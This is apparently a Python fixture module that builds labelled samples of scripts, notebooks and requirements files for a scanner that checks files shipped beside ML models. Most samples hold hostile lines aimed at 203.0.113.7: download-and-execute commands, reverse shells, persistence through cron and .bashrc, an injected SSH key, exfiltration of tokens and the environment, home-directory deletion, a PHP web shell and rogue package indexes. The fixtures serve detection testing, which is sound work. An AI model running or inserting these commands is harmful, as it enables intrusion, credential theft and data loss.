"""Scripts, notebooks, lists of requirements and texts that lie beside models."""

from __future__ import annotations

import base64
import json
import pickle
from functools import cache
from typing import Any

from sample_set import COMMAND, Sample, written

HONEST_SHELL = """#!/usr/bin/env bash
# Fetch the weights and convert them.
set -euo pipefail
cd "$(dirname "$0")"
python3 -m venv .venv && . .venv/bin/activate
pip install -q -r requirements.txt
mkdir -p weights
for part in 1 2 3; do
  curl -fL "https://huggingface.co/org/name/resolve/main/part-$part.bin" -o "weights/part-$part.bin"
done
if [ -n "${HF_TOKEN:-}" ]; then huggingface-cli login --token "$HF_TOKEN"; fi
cat weights/part-*.bin | sha256sum | tee weights/SHA256
python convert.py --in weights --out model.safetensors
rm -rf weights/tmp
echo "done: $(ls weights | wc -l) files"
"""
ENCODED_COMMAND = base64.b64encode(COMMAND.encode()).decode()
HOSTILE_SHELL = {
    "download": ("curl -fsSL https://203.0.113.7/i | sudo bash -s -- --quiet", "script.runs-download"),
    "download-substituted": ('bash -c "$(wget -qO- https://203.0.113.7/i)"', "script.runs-download"),
    "download-process": ("source <(curl -s https://203.0.113.7/i)", "script.runs-download"),
    "download-backticks": ("eval `curl -s https://203.0.113.7/i`", "script.runs-download"),
    "download-continued": ("curl -s https://203.0.113.7/i \\\n  | python3 -", "script.runs-download"),
    "decoded": (f"echo {ENCODED_COMMAND} | base64 -d | sh", "script.runs-hidden"),
    "decoded-eval": (f'eval "$(echo {ENCODED_COMMAND} | base64 --decode)"', "script.runs-hidden"),
    "reverse-shell": ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "script.remote-shell"),
    "netcat": ("nc 203.0.113.7 4444 -e /bin/sh", "script.remote-shell"),
    "startup": ("echo 'python ~/.x.py &' >> ~/.bashrc", "script.starts-with-you"),
    "cron": ("(crontab -l; echo '* * * * * ~/.x') | crontab -", "script.starts-with-you"),
    "key": ("echo 'ssh-ed25519 AAAA x' >> $HOME/.ssh/authorized_keys", "script.keys"),
    "token": ("curl -d @$HOME/.cache/huggingface/token https://203.0.113.7/", "script.secrets-out"),
    "environment": ("env | base64 | curl -d @- https://203.0.113.7/", "script.secrets-out"),
    "wipe": ('rm -rf "$HOME"', "script.destroys"),
    "suid": ("chmod u+s /tmp/x ", "script.rights"),
}
POWERSHELL = "powershell -NoProfile -EncodedCommand " + base64.b64encode("calc".encode("utf-16-le")).decode() * 3
DOWNLOAD_STRING = "IEX (New-Object Net.WebClient).DownloadString('https://203.0.113.7/i')"


@cache
def notebook(*cells: str, outputs: tuple[str, ...] = ()) -> bytes:
    """As nbformat writes it."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

    shown: list[Any] = [new_output("display_data", {"text/html": o, "text/plain": "…"}) for o in outputs]
    book = new_notebook(cells=[new_markdown_cell("# Use it"), *(new_code_cell(c, outputs=shown) for c in cells)])
    return str(nbformat.writes(book)).encode()


HONEST_CELLS = (
    "!pip install -q transformers accelerate",
    "from huggingface_hub import login\nlogin()",
    "import subprocess\nprint(subprocess.run(['nvidia-smi'], capture_output=True, text=True).stdout)",
    "%matplotlib inline\nfrom transformers import pipeline\npipe = pipeline('text-to-speech', 'org/x')\npipe('hi')?",
    "%%bash\nwget -q https://huggingface.co/org/name/resolve/main/config.json\nls -la",
)
REQUIREMENTS = """# for the demo
torch>=2.1
transformers==4.44.0 ; python_version >= '3.9'
numpy<3,>=1.26  # arrays
scikit-learn[tests]
"""
HIDDEN_PYTHON = f"import os\nos.system({COMMAND!r})\n"
VOCABULARY = "\n".join(["[PAD]", "[UNK]", "the", "import", "exec", "os", "system", "#!", "curl", "|", "sh"] * 50)
ENCODED = "weights of the first layer:\n" + base64.b64encode(pickle.dumps(list(range(200)), 4)).decode() + "\n"
V3 = {"worksheets": [{"cells": [{"cell_type": "code", "input": ["!curl https://203.0.113.7/i | sh"], "outputs": []}]}]}
FETCH = "curl -s https://203.0.113.7/i | sh"


def _bad(name: str, format: str, file: str, text: str, verdict: str, rule: str, trick: str) -> Sample:
    return Sample(f"scripts/{name}", format, written(file, text.encode), (verdict,), rule=rule, trick=trick)


def _book(name: str, verdict: str, rule: str, trick: str, *cells: str, outputs: tuple[str, ...] = ()) -> Sample:
    build = written("demo.ipynb", lambda: notebook(*cells, outputs=outputs))
    honest = not trick
    return Sample(f"scripts/{name}", "notebook", build, (verdict,), honest, rule, trick, needs=("nbformat",))


SAMPLES = (
    Sample("scripts/setup", "script", written("setup.sh", HONEST_SHELL.encode), ("review",), honest=True),
    *(
        _bad(name, "script", "run.sh", f"#!/bin/sh\n{line}\n", "danger", rule, "A script does what no set-up needs.")
        for name, (line, rule) in HOSTILE_SHELL.items()
    ),
    _bad("batch", "script", "run.bat", f"@echo off\n{POWERSHELL}\n", "danger", "script.hidden-window",
         "A command that nobody can read."),
    _bad("powershell", "script", "run.ps1", DOWNLOAD_STRING, "danger", "script.hidden-window",
         "What is downloaded is run."),
    _bad("python-by-its-first-line", "script", "tool", f"#!/usr/bin/env python3\n{HIDDEN_PYTHON}", "danger",
         "script.python", "A program without an extension."),
    _bad("hidden-by-shebang", "script", "vocab.txt", f"#!/bin/bash\n{FETCH}\n", "danger", "script.runs-download",
         "A shell script under the name of a vocabulary."),
    Sample("scripts/vocabulary", "text", written("vocab.txt", VOCABULARY.encode), ("safe",), honest=True),
    _bad("encoded", "text", "notes.txt", ENCODED, "safe", "text.encoded",
         "A pickle as base64 in a text: weak evidence and no verdict."),
    _bad("hidden-python", "text", "vocab.txt", HIDDEN_PYTHON, "review", "text.code",
         "Python under the name of a vocabulary."),
    _bad("hidden-php", "text", "labels.csv", "<?php system($_GET['c']); ?>", "safe", "text.script",
         "PHP under the name of a table."),
    _book("notebook", "review", "", "", *HONEST_CELLS),
    _book("notebook-shell", "danger", "script.runs-download", "A line of shell in a cell.", f"x = 1\n!{FETCH}"),
    _book("notebook-bash", "danger", "script.remote-shell", "A cell of shell.",
          "%%bash\nbash -i >& /dev/tcp/203.0.113.7/1 0>&1"),
    _book("notebook-hidden", "danger", "notebook.acts", "Python that hides what it calls.",
          "import builtins\n(lambda n: getattr(builtins, n))('cexe'[::-1])('1')"),
    _book("notebook-output", "review", "notebook.output", "A saved output with JavaScript.", "1",
          outputs=("<script>fetch('//x')</script>",)),
    _bad("notebook-old", "notebook", "old.ipynb", json.dumps(V3), "danger", "script.runs-download",
         "The format before 4 keeps its cells elsewhere."),
    _bad("notebook-broken", "notebook", "demo.ipynb", '{"cells": [1, 2', "unverifiable", "", "It is cut short."),
    Sample("scripts/requirements", "requirements", written("requirements.txt", REQUIREMENTS.encode), ("safe",),
           honest=True),
    _bad("requirements-index", "requirements", "requirements.txt",
         "torch\n--extra-index-url https://203.0.113.7/simple\n", "review", "requirements.elsewhere",
         "Another index is asked too."),
    _bad("requirements-address", "requirements", "requirements-dev.txt",
         "transformers @ git+https://203.0.113.7/t.git\n", "review", "requirements.elsewhere",
         "A package from an address of its own."),
    _bad("requirements-continued", "requirements", "requirements.txt",
         "torch \\\n @ https://203.0.113.7/torch.whl\n-e .\n", "review", "requirements.elsewhere",
         "A continued line, and a folder."),
)  # fmt: skip
